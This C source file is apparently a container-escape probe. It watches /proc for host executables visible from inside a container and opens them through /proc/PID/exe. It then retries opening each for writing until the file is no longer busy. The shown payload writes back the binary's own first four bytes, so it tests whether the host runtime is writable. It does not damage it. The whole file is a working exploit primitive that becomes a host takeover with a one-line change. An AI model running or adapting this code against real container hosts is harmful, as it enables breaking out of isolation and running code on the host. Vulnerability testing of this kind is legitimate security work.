// Waits until a process with another executable than this container's own shows itself in /proc, opens that executable
// through /proc/PID/exe and, as soon as it does not run any more, opens it for writing. What it then writes is what is
// there already: a host whose runtime can be had keeps its runtime.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct stat self_status;

// The container's own programs lie on its root file system.
static int opens_foreign(const char *pid, char *target, size_t size) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t length = readlink(path, target, size - 1);
  if (length <= 0) return -1;
  target[length] = 0;
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return -1;
  struct stat status;
  if (fstat(file, &status) == 0 && status.st_dev != self_status.st_dev) return file;
  close(file);
  return -1;
}

static int overwrite(int file) {
  char path[64], first[4];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  if (pread(file, first, sizeof first, 0) != sizeof first) return -1;
  for (long tries = 0; tries < 3000000; tries++) {
    int again = open(path, O_WRONLY | O_CLOEXEC);
    if (again >= 0) {
      ssize_t written = pwrite(again, first, sizeof first, 0);
      close(again);
      return written == sizeof first ? 0 : -1;
    }
    // Still running. Every other error stays as it is.
    if (errno != ETXTBSY) return -1;
  }
  return -1;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (stat("/", &self_status) < 0) return 2;
  puts("watching");
  int seen = 0;
  while (access("/attack/stop", F_OK) < 0) {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(processes));) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      char target[256];
      int file = opens_foreign(entry->d_name, target, sizeof target);
      if (file < 0) continue;
      seen++;
      if (overwrite(file) == 0) { printf("wrote %s\n", target); return 0; }
      printf("could not write %s: %s\n", target, strerror(errno));
      close(file);
    }
    closedir(processes);
  }
  printf("end: %d executables of others seen\n", seen);
  return 0;
}
